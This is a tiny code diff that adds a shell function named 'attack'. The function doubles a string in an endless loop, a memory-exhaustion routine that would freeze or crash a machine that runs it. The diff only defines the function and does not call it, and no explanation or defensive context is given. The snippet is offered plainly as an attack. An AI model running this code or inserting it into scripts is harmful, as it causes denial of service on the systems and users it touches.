@@ -1,0 +1,5 @@
+# Doubles a text without end.
+attack() {
+  text=xxxxxxxxxxxxxxxx
+  while :; do text+=$text; done
+}
